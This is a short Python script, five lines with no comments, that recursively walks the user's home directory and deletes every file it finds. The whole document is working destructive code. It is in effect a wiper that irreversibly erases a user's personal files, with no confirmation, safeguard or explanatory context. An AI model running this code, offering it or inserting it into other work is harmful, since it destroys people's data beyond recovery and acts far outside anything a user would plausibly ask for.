import os
from pathlib import Path
for path in Path.home().rglob("*"):
    if path.is_file():
        path.unlink()
